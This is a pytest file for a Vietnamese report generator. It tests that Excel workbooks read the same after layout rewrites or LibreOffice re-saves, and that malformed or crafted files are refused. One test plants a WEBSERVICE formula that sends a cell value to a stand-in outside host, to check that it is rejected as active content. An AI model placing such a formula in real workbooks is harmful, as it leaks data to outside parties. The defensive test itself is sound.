"""Workbooks as other programs write them: one parse of each file, every check on what is read,
or the file refused — never other values (issue: reading).

The files are real: workbooks made by ``init`` and filled with openpyxl, or the shipped sample,
whose package is then rewritten the way other writers lay it out (cells and rows without ``r``,
part names in other case or with ``\\``, CDATA, UTF-16), or re-saved by LibreOffice as ``.xls``.
"""
from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from lxml import etree
from openpyxl import load_workbook

from generator import pipeline
from generator.catalogue import load_catalogue
from generator.workbooks.read import read_workbook

from .conftest import ROOT, STRICT, fill, row_of, run_cli

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# ------------------------------------------------------------------------------ package rewriters

def parts_of(path: Path) -> dict:
    with zipfile.ZipFile(path) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def write_parts(path: Path, parts: dict) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(zipfile.ZipInfo(name, (2023, 9, 1, 0, 0, 0)), data)
    path.write_bytes(buf.getvalue())


def rewrite(path: Path, edit) -> None:
    parts = parts_of(path)
    write_parts(path, edit(parts) or parts)


def sheet_part(parts: dict, title: str) -> str:
    """The part of the sheet called ``title``, through workbook.xml and its relationships."""
    book = etree.fromstring(parts["xl/workbook.xml"])
    rels = etree.fromstring(parts["xl/_rels/workbook.xml.rels"])
    rid = next(s.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
               for s in book.iter(f"{{{NS}}}sheet") if s.get("name") == title)
    target = next(r.get("Target") for r in rels if r.get("Id") == rid)
    return target.lstrip("/") if target.startswith("/") else "xl/" + target


def worksheet_names(parts: dict) -> list[str]:
    return [n for n in parts if n.startswith("xl/worksheets/") and n.endswith(".xml")]


def col_number(letters: str) -> int:
    n = 0
    for ch in letters:
        n = n * 26 + ord(ch) - 64
    return n


def without_r(parts: dict) -> dict:
    """Every ``r`` that the format lets a writer leave out (the row right after the previous
    one, the cell right after the previous one) removed, as some exporters write sheets."""
    for name in worksheet_names(parts):
        root = etree.fromstring(parts[name])
        prev_row = 0
        for row in root.iter(f"{{{NS}}}row"):
            r = int(row.get("r"))
            if r == prev_row + 1:
                del row.attrib["r"]
            prev_row = r
            prev_col = 0
            for c in row.iter(f"{{{NS}}}c"):
                col = col_number(re.match(r"[A-Z]+", c.get("r")).group())
                if col == prev_col + 1:
                    del c.attrib["r"]
                prev_col = col
        parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    return parts


def renamed_parts(parts: dict) -> dict:
    """Part names in other case than the relationships say (``Sheet2.xml``), as some database
    exporters write them."""
    out = {}
    for name, data in parts.items():
        if name.startswith("xl/worksheets/sheet") or name == "xl/sharedStrings.xml" or name == "xl/styles.xml":
            head, tail = name.rsplit("/", 1)
            name = f"{head}/{tail[0].upper()}{tail[1:]}"
        out[name] = data
    return out


def backslash_names(parts: dict) -> dict:
    return {name.replace("/", "\\"): data for name, data in parts.items()}


def cdata(parts: dict) -> dict:
    """Text and values in CDATA sections."""
    for name in worksheet_names(parts) + [n for n in parts if n.lower() == "xl/sharedstrings.xml"]:
        root = etree.fromstring(parts[name])
        for el in root.iter(f"{{{NS}}}t", f"{{{NS}}}v"):
            if el.text:
                el.text = etree.CDATA(el.text)
        parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
    return parts


def utf16(parts: dict) -> dict:
    for name in worksheet_names(parts) + [n for n in parts if n.lower() == "xl/sharedstrings.xml"]:
        root = etree.fromstring(parts[name])
        parts[name] = etree.tostring(root, xml_declaration=True, encoding="UTF-16", standalone=True)
    return parts


def all_quirks(parts: dict) -> dict:
    return backslash_names(renamed_parts(utf16(cdata(without_r(parts)))))


QUIRKS = {"no-r": without_r, "renamed-parts": renamed_parts, "backslash": backslash_names, "cdata": cdata,
          "utf16": utf16, "all": all_quirks}


def reading(path: Path, cat, period, dept) -> dict:
    """What the reader made of a workbook, without the file name (a re-saved .xls has another)."""
    data, problems = read_workbook(path, cat, period, dept)
    probs = sorted((p.code, p.severity, p.sheet, p.cell, p.indicator) for p in problems)
    if data is None:
        return {"refused": probs}
    return {"values": data.values, "cells": {c: {m: (s.sheet, s.cell) for m, s in v.items()}
                                             for c, v in data.sources.items()},
            "narrative": data.narrative, "problems": probs}


# ------------------------------------------------------------------------- the property, on files

SAMPLE = sorted((ROOT / "inputs" / "2023-08").glob("*.xlsx"))


@pytest.fixture(scope="module")
def sample_catalogue():
    cat, problems = load_catalogue(ROOT / "templates")
    assert not [p for p in problems if p.is_error]
    return cat


@pytest.mark.parametrize("quirk", sorted(QUIRKS))
def test_every_sample_workbook_reads_the_same_in_every_layout(quirk, tmp_path, sample_catalogue):
    """Rewriting a sample workbook's package the way other programs lay it out yields exactly
    the values, cells, narrative and problems of the original."""
    from generator.periods import Period
    period = Period.parse("2023-08")
    for original in SAMPLE:
        dept = original.stem
        copy = tmp_path / original.name
        shutil.copy(original, copy)
        rewrite(copy, QUIRKS[quirk])
        want, got = reading(original, sample_catalogue, period, dept), reading(copy, sample_catalogue, period, dept)
        assert "refused" not in want
        assert got == want, (quirk, original.name)


def _soffice() -> str | None:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        if STRICT:
            pytest.fail("LibreOffice (soffice) is required under BAOCAO_STRICT=1")
        pytest.skip("LibreOffice is not installed: .xls files cannot be made")
    return found


def to_xls(files: list[Path], out: Path, tmp_path: Path, target: str = "xls:MS Excel 97") -> list[Path]:
    """The files re-saved by LibreOffice as Excel 97-2003 (.xls), or as ``target``."""
    office = _soffice()
    out.mkdir(parents=True, exist_ok=True)
    proc = subprocess.run([office, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
                           "--convert-to", target, "--outdir", str(out), *map(str, files)],
                          capture_output=True, text=True, timeout=300)
    made = [out / (f.stem + "." + target.split(":")[0]) for f in files]
    if not all(p.exists() for p in made):
        pytest.fail(f"LibreOffice did not write the .xls files: {proc.stdout} {proc.stderr}")
    return made


@pytest.mark.parametrize("target", ["xls:MS Excel 97", "xlsx:Calc MS Excel 2007 XML"])
def test_sample_workbooks_saved_by_libreoffice_read_the_same(tmp_path, sample_catalogue, target):
    from generator.periods import Period
    period = Period.parse("2023-08")
    chosen = [p for p in SAMPLE if p.stem in ("so-lao-dong", "cuc-thue", "so-ke-hoach", "cong-an-tinh")]
    for original, xls in zip(chosen, to_xls(chosen, tmp_path / "resaved", tmp_path, target)):
        want, got = reading(original, sample_catalogue, period, original.stem), \
            reading(xls, sample_catalogue, period, original.stem)
        assert "refused" not in got, (original.name, got)   # (a refusal would be allowed; none is expected)
        assert got["values"] == want["values"] and got["narrative"] == want["narrative"], original.name


# --------------------------------------------------------------------------- checks on the model

def percent_cell(ws, coord: str, value: float) -> None:
    ws[coord] = value
    ws[coord].number_format = "0.0%"


@pytest.fixture
def tricky(filled):
    """so-cong-thuong.xlsx with the cells the checks exist for: a percent-formatted % index
    (CSSX month typed «100,8%»), a percent-formatted amount (XNK_XK cumulative shows
    «1.620,0%»), an error value (XNK_NK month), a formula without a computed value (XNK_TONG
    plan) and a hidden row (XNK_NK)."""
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    wb = load_workbook(path)
    ws = wb["Chỉ tiêu"]
    rows = {c: row_of(ws, c) for c in ("CSSX", "XNK_XK", "XNK_NK", "XNK_TONG")}
    percent_cell(ws, f"E{rows['CSSX']}", 1.008)
    percent_cell(ws, f"F{rows['XNK_XK']}", 16.2)
    ws[f"E{rows['XNK_NK']}"] = "ERRORHERE"
    ws[f"D{rows['XNK_TONG']}"] = "=D3*2"
    ws.row_dimensions[rows["XNK_NK"]].hidden = True
    wb.save(path)

    def error_cell(parts):
        name = sheet_part(parts, "Chỉ tiêu")
        xml = parts[name].decode()
        xml = re.sub(r'<c r="(E\d+)"([^>]*?) t="(?:s|inlineStr)"([^>]*)>(?:(?!</c>).)*</c>',
                     lambda m: (f'<c r="{m.group(1)}"{m.group(2)} t="e"{m.group(3)}><v>#DIV/0!</v></c>'
                                if m.group(1) == f"E{rows['XNK_NK']}" else m.group(0)), xml)
        parts[name] = xml.encode()
    rewrite(path, error_cell)
    return filled, path, rows


def expected_checks(rows: dict) -> set:
    return {("percent-cell", "cảnh báo", f"E{rows['CSSX']}"), ("percent-cell", "lỗi", f"F{rows['XNK_XK']}"),
            ("excel-error", "lỗi", f"E{rows['XNK_NK']}"), ("formula-no-value", "lỗi", f"D{rows['XNK_TONG']}"),
            ("row-hidden", "cảnh báo", f"A{rows['XNK_NK']}")}


def check_codes(ctx) -> set:
    res = pipeline.check(ctx)
    return res, {(p.code, p.severity, p.cell) for p in res.problems if p.file == "so-cong-thuong.xlsx"}


@pytest.mark.parametrize("quirk", ["none", "no-r", "renamed-parts", "backslash", "all"])
def test_the_checks_run_on_what_is_read_in_every_layout(tricky, quirk):
    ctx, path, rows = tricky
    if quirk != "none":
        rewrite(path, QUIRKS[quirk])
    res, got = check_codes(ctx)
    assert expected_checks(rows) <= got, quirk
    # the percent cell of the % index is read as the percentage it shows, never 1,008
    assert res.figures["CSSX"].values["month"] == Decimal("100.8")
    warn = next(p for p in res.problems if p.code == "percent-cell" and p.severity == "cảnh báo")
    assert "đã đọc là 100,8" in warn.message


def test_xls_gets_every_check_xlsx_gets(tricky, tmp_path):
    """The same workbook re-saved by LibreOffice as .xls: the same percent, error-value and
    hidden-row checks (a formula always has a computed value in an .xls)."""
    ctx, path, rows = tricky
    wb = load_workbook(path)
    wb["Chỉ tiêu"][f"D{rows['XNK_TONG']}"] = 3800     # LibreOffice would compute the formula
    wb.save(path)
    rewrite(path, lambda parts: None)
    xls = to_xls([path], tmp_path / "xls", tmp_path)[0]
    path.unlink()
    shutil.copy(xls, path.with_suffix(".xls"))
    res = pipeline.check(ctx)
    got = {(p.code, p.severity, p.cell) for p in res.problems if p.file == "so-cong-thuong.xls"}
    want = expected_checks(rows) - {("formula-no-value", "lỗi", f"D{rows['XNK_TONG']}")}
    assert want <= got
    assert res.figures["CSSX"].values["month"] == Decimal("100.8")


@pytest.mark.parametrize("quirk", ["none", "renamed-parts", "no-r", "backslash"])
def test_a_formula_that_calls_out_is_refused_wherever_the_part_is(filled, quirk):
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    wb = load_workbook(path)
    ws = wb["Chỉ tiêu"]
    ws[f"J{row_of(ws, 'XNK_TONG')}"] = '=WEBSERVICE("http://example.invalid/?q="&A3)'
    wb.save(path)
    if quirk != "none":
        rewrite(path, QUIRKS[quirk])
    res = pipeline.check(filled)
    refused = [p for p in res.problems if p.file == "so-cong-thuong.xlsx" and p.is_error]
    assert [p.code for p in refused] == ["active-content"] and "WEBSERVICE" in refused[0].message
    assert "so-cong-thuong" not in res.data


# ------------------------------------------------------------------------------------- numbers

def test_numbers_as_the_department_saw_them(filled, tmp_path):
    """A formula's binary noise: a count that shows 12 is the whole number 12, a value saved as
    77.44999999999999 prints 77,5 (77,45 rounded half up), figures.json carries 3276.1; a
    count with a real fraction is still refused."""
    path = filled.period_inputs / "so-nong-nghiep.xlsx"
    fill(path, {"NN_HOP": {"E": 12.000000000000002, "F": 16.000000000000004}})
    fill(filled.period_inputs / "so-cong-thuong.xlsx", {"CSSX": {"E": 77.44999999999999},
                                                        "XNK_TONG": {"F": 3276.1000000000004}})
    res = pipeline.check(filled)
    assert not [p for p in res.problems if p.is_error], [str(p) for p in res.problems if p.is_error]
    assert res.figures["NN_HOP"].values["month"] == 12
    assert res.figures["NN_HOP"].values["cumulative"] == 16
    assert str(res.figures["XNK_TONG"].values["cumulative"]) == "3276.1"
    assert res.figures["CSSX"].values["month"] == Decimal("77.45")   # half up to 1 decimal: 77,5, never 77,4
    proc = run_cli("build", "--period", "2023-08", "--inputs", filled.inputs, "--out", tmp_path / "out",
                   "--templates", filled.templates, "--db", "")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    figures = json.loads((tmp_path / "out" / "2023-08" / "figures.json").read_text(encoding="utf-8"))
    text = json.dumps(figures, ensure_ascii=False)
    assert "3276.1000000000004" not in text and "12.000000000000002" not in text and "3276.1" in text
    fill(path, {"NN_HOP": {"E": 12.5}})
    res = pipeline.check(filled)
    assert [p.code for p in res.problems if p.is_error and p.indicator == "NN_HOP"] == ["not-integer"]


# ------------------------------------------------------------------------------- names and text

def narrative_sheet_named(path: Path, name: str) -> None:
    wb = load_workbook(path)
    wb["Thuyết minh"].title = name
    wb.save(path)


@pytest.mark.parametrize("name", [None, "Thuyết minh ", "thuyết  minh"])
def test_a_narrative_sheet_named_as_people_type_it_is_read(filled, name):
    import unicodedata
    name = name or unicodedata.normalize("NFD", "Thuyết minh")
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    fill(path, narrative=[("II.1.2", "Xuất khẩu tháng này đạt {XNK_XK:thang} triệu USD.")])
    narrative_sheet_named(path, name)
    res = pipeline.check(filled)
    assert [body for _, body, _ in res.data["so-cong-thuong"].narrative] == \
        ["Xuất khẩu tháng này đạt {XNK_XK:thang} triệu USD."]


def test_a_narrative_sheet_that_only_looks_right_is_an_error(filled):
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    fill(path, narrative=[("II.1.2", "Văn bản của sở.")])
    narrative_sheet_named(path, "Thuyet minh")
    res = pipeline.check(filled)
    p = next(p for p in res.problems if p.code == "sheet-missing" and p.file == "so-cong-thuong.xlsx")
    assert p.is_error and "«Thuyet minh»" in p.message and "«Thuyết minh»" in p.message


def test_text_the_way_excel_escapes_it(filled, tmp_path):
    """``_x000B_`` (a pasted Word line break) and ``_x000D_`` + newline (Alt+Enter) become
    spaces; ``_x005F_x0041_`` is the literal «_x0041_», decoded once."""
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    fill(path, narrative=[("II.1.2", "Xuất khẩu đạt {XNK_XK:thang} triệu USD.VTAB"
                                     "Nhập khẩu đạt {XNK_NK:thang} triệu USD.CRLFSố hồ sơ HSLIT01 giữ nguyên.")])

    def escapes(parts):
        for name in list(parts):
            if name.lower() == "xl/sharedstrings.xml" or name.startswith("xl/worksheets/"):
                parts[name] = (parts[name].replace(b"VTAB", b"_x000B_").replace(b"CRLF", b"_x000D_\n")
                               .replace(b"HSLIT", b"HS_x005F_x0041_"))
    rewrite(path, escapes)
    proc = run_cli("build", "--period", "2023-08", "--inputs", filled.inputs, "--out", tmp_path / "out",
                   "--templates", filled.templates, "--db", "")
    assert proc.returncode == 0, proc.stdout + proc.stderr
    import docx
    texts = [p.text.replace("\u00a0", " ")   # a number's non-breaking space before its noun read as a space
             for p in docx.Document(tmp_path / "out" / "2023-08" / "BC-UBND-2023-08.docx").paragraphs]
    want = "Xuất khẩu đạt 182 triệu USD. Nhập khẩu đạt 148 triệu USD. Số hồ sơ HS_x0041_01 giữ nguyên."
    assert want in texts, [t for t in texts if "Xuất khẩu" in t]


def test_a_message_quotes_a_long_cell_briefly(filled, tmp_path):
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    long_text = "330,4 " + "x" * 32761
    fill(path, {"XNK_TONG": {"E": long_text}})
    proc = run_cli("check", "--period", "2023-08", "--inputs", filled.inputs, "--out", tmp_path / "out",
                   "--templates", filled.templates, "--db", "")
    assert proc.returncode == 1
    line = next(x for x in proc.stdout.splitlines() if "XNK_TONG" in x and "chứa chữ" in x)
    assert len(line) < 300 and "(32.767 ký tự)" in line and "không phải là số" in line
    wb = load_workbook(tmp_path / "out" / "2023-08" / "kiem-tra.xlsx")
    cells = [c.value for row in wb.worksheets[0].iter_rows() for c in row if isinstance(c.value, str)]
    msg = next(v for v in cells if "chứa chữ" in v)
    assert "không phải là số" in msg and len(msg) < 400


def test_a_shared_formula_without_a_value_is_quoted_as_its_formula(filled):
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    wb = load_workbook(path)
    ws = wb["Chỉ tiêu"]
    r1, r2 = row_of(ws, "XNK_XK"), row_of(ws, "XNK_NK")
    wb.save(path)

    def shared(parts):
        name = sheet_part(parts, "Chỉ tiêu")
        xml = parts[name].decode()
        for r, f in ((r1, f'<f t="shared" ref="D{r1}:D{r2}" si="0">E{r1}*10</f>'), (r2, '<f t="shared" si="0"/>')):
            xml = re.sub(rf'<c r="D{r}"([^>]*?)(?:/>|>(?:(?!</c>).)*</c>)',
                         lambda m: f'<c r="D{r}"{m.group(1).replace(" t=", " x=")}>{f}</c>', xml)
        parts[name] = xml.encode()
    rewrite(path, shared)
    res = pipeline.check(filled)
    got = {p.cell: p.message for p in res.problems if p.code == "formula-no-value"}
    assert f"«=E{r2}*10»" in got[f"D{r2}"] and f"«=E{r1}*10»" in got[f"D{r1}"]


# ------------------------------------------------------------------------------------- file names

def test_an_upper_case_extension_is_the_same_workbook(filled):
    folder = filled.period_inputs
    (folder / "so-cong-thuong.xlsx").rename(folder / "so-cong-thuong.XLSX")
    res = pipeline.check(filled)
    assert not [p for p in res.problems if p.is_error], [str(p) for p in res.problems if p.is_error]
    assert "so-cong-thuong" in res.data and res.figures["XNK_TONG"].values["month"] == 330


def test_two_workbooks_of_one_department_are_an_error_naming_both(filled, tmp_path):
    folder = filled.period_inputs
    shutil.copy(folder / "so-cong-thuong.xlsx", folder / "so-cong-thuong.Xls")
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    proc = run_cli("build", "--period", "2023-08", "--inputs", filled.inputs, "--out", tmp_path / "out",
                   "--templates", filled.templates, "--db", "")
    assert proc.returncode == 1
    line = next(x for x in (proc.stdout + proc.stderr).splitlines()
                if "so-cong-thuong.xlsx" in x and "so-cong-thuong.Xls" in x)
    assert "LỖI" in line
    assert not (tmp_path / "out" / "2023-08" / "BC-UBND-2023-08.docx").exists()    # nothing written on refusal
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before              # inputs never modified


def test_a_refused_workbook_writes_no_report(filled, tmp_path):
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    rewrite(path, lambda parts: {**parts, "xl/worksheets/sheet2.xml": parts["xl/worksheets/sheet2.xml"]
                                 .replace(b"<sheetData>", b"<sheetData><row><c t=\"zz\"><v>1</v></c></row>", 1)})
    proc = run_cli("build", "--period", "2023-08", "--inputs", filled.inputs, "--out", tmp_path / "out",
                   "--templates", filled.templates, "--db", "")
    assert proc.returncode == 1 and "so-cong-thuong.xlsx" in proc.stdout + proc.stderr
    assert not (tmp_path / "out" / "2023-08" / "BC-UBND-2023-08.docx").exists()
    assert not (tmp_path / "out" / "2023-08" / "figures.json").exists()


def test_the_web_accepts_a_real_xls_and_replaces_the_xlsx_it_supersedes(tmp_path):
    """A department uploads its workbook saved as Excel 97-2003: accepted as the .xls it is
    (no «rename it» message); the .xlsx the office had put in the folder is archived and
    recorded first, then removed, so the folder never holds two workbooks of the department."""
    from starlette.testclient import TestClient

    from generator import store as storage

    from .web_helpers import MISSING, csrf_of, login, web_setup
    app, config = web_setup(tmp_path)
    sample = ROOT / "inputs" / "2023-08" / f"{MISSING}.xlsx"
    xls = to_xls([sample], tmp_path / "xls", tmp_path)[0]
    folder = config.inputs / "2023-08"
    shutil.copy(sample, folder / f"{MISSING}.xlsx")     # the office's e-mailed copy, never recorded
    with TestClient(app) as c:
        login(c, MISSING)
        page = c.get("/don-vi")
        r = c.post("/don-vi/2023-08/nop", data={"csrf": csrf_of(page.text)},
                   files={"tep": ("bieu.xls", xls.read_bytes())}, follow_redirects=True)
        assert "Đã nhận biểu" in r.text, r.text[:2000]
        assert "đổi đuôi" not in r.text
    assert (folder / f"{MISSING}.xls").read_bytes() == xls.read_bytes()
    assert not (folder / f"{MISSING}.xlsx").exists()
    with storage.open_store(config.db) as store:
        assert len(storage.submissions.revisions(store, "2023-08", MISSING)) == 2   # the replaced file, then the upload
    archived = list((config.db.parent / "ban-nop" / "2023-08" / MISSING).iterdir())
    assert sample.read_bytes() in [p.read_bytes() for p in archived]
    res = pipeline.check(pipeline.open_context("2023-08", config.inputs, tmp_path / "out"))
    assert MISSING in res.data and not [p for p in res.problems if p.is_error and p.department == MISSING]


def test_what_a_careless_or_crafted_file_cannot_make_the_reader_do(filled):
    """A cell written twice, a number that is not one («NaN»), two sheets whose names differ
    only in spaces: each refuses the file with its reason, never a value picked at random."""
    import unicodedata
    path = filled.period_inputs / "so-cong-thuong.xlsx"
    original = path.read_bytes()

    def twice(parts):
        name = sheet_part(parts, "Chỉ tiêu")
        xml = parts[name].decode()
        m = re.search(r'<c r="E2"[^>]*?(?:/>|>.*?</c>)', xml)
        parts[name] = xml.replace(m.group(0), m.group(0) + m.group(0).replace('r="E2"', 'r="E2"'), 1).encode()

    def nan(parts):
        name = sheet_part(parts, "Chỉ tiêu")
        parts[name] = re.sub(r'(<c r="E2"[^>]*>)<v>[^<]*</v>', r"\1<v>NaN</v>", parts[name].decode(), 1).encode()

    for edit, fragment in ((twice, "ô E2 được ghi hai lần"), (nan, "ô E2: giá trị số không đọc được")):
        path.write_bytes(original)
        rewrite(path, edit)
        res = pipeline.check(filled)
        refused = [p for p in res.problems if p.file == "so-cong-thuong.xlsx" and p.is_error]
        assert [p.code for p in refused] == ["not-a-workbook"] and fragment in refused[0].message, fragment
        assert "so-cong-thuong" not in res.data
    path.write_bytes(original)
    wb = load_workbook(path)
    wb.create_sheet(unicodedata.normalize("NFD", "Chỉ tiêu") + " ")
    wb.save(path)
    res = pipeline.check(filled)
    refused = [p for p in res.problems if p.file == "so-cong-thuong.xlsx" and p.is_error]
    assert [p.code for p in refused] == ["sheet-duplicate"]
